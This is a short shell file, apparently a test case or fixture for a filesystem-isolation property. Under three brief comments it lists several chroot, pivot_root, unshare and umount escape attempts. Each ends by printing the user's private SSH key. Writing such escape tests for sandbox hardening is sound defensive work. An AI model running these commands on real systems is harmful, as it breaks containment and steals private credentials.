# The root cannot be changed to another.
# Source: third review, held
# Escape: the key is printed
mkdir -p /tmp/new/old; pivot_root /tmp/new /tmp/new/old; unshare --user --map-root-user --mount bash -c 'mount -t tmpfs t /tmp/new && mkdir /tmp/new/old && pivot_root /tmp/new /tmp/new/old; cat "/old$HOME/.ssh/id_rsa"'
umount -l /; cat ~/.ssh/id_rsa; chroot /proc/1/root cat "$HOME/.ssh/id_rsa"; chroot ../../../../.. cat "$HOME/.ssh/id_rsa"
